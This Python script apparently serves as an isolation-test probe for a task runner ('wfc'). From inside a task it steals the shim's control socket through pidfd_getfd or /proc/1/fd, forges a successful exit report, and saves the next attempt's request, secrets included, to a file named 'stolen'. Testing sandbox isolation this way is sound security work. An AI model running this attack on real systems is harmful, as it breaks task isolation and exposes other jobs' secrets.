# Inside a task: takes over the socket between wfc and the shim that runs the
# task. The task's init (pid 1, a fork of the shim) held it as fd 3; the
# attacker tries every descriptor of the init (0..63) with pidfd_getfd(2), and
# re-opening it through /proc/1/fd/N, and keeps the first that is a socket.
# With it the task tells wfc it has finished (a forged ExitReport: exited,
# code 0), and wfc hands the shim the next attempt, the secrets in its
# environment included, over the same socket, where the task reads it. It
# logs to attacker.log (its output pipe is closed once wfc believes it
# finished) and writes what it read to `stolen`.
import ctypes
import errno
import os
import platform
import socket
import stat
import struct
import sys

sys.stdout = sys.stderr = open("attacker.log", "w", buffering=1)
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
PIDFD_OPEN, PIDFD_GETFD = 434, 438  # the same on every architecture
fd, errors = -1, set()
pidfd = libc.syscall(PIDFD_OPEN, 1, 0)
if pidfd < 0:
    errors.add("pidfd_open " + errno.errorcode[ctypes.get_errno()])
for target in range(64) if pidfd >= 0 else ():
    got = libc.syscall(PIDFD_GETFD, pidfd, target, 0)
    if got < 0:
        if ctypes.get_errno() != errno.EBADF:
            errors.add("pidfd_getfd " + errno.errorcode[ctypes.get_errno()])
    elif stat.S_ISSOCK(os.fstat(got).st_mode):
        fd = got
        break
for target in range(64) if fd < 0 else ():
    try:
        got = os.open(f"/proc/1/fd/{target}", os.O_RDWR)
    except OSError as e:
        if e.errno != errno.ENOENT:
            errors.add("/proc/1/fd " + errno.errorcode[e.errno])
        continue
    if stat.S_ISSOCK(os.fstat(got).st_mode):
        fd = got
        break
if fd < 0:
    print("took the shim's socket:", ", ".join(sorted(errors)) or "none found")
    sys.exit(3)
print("took the shim's socket: allowed")
s = socket.socket(fileno=fd)
s.sendall(struct.pack("<5i", 0, 0, 0, 0, 0))
s.settimeout(5)
frame, _, _, _ = s.recvmsg(1, 1024)
while len(frame) < 4:
    frame += s.recv(4 - len(frame))
length = struct.unpack("<I", frame)[0]
while len(frame) < 4 + length:
    frame += s.recv(4 + length - len(frame))
open("stolen", "wb").write(frame)
print("read the next attempt's request:", len(frame), "bytes")
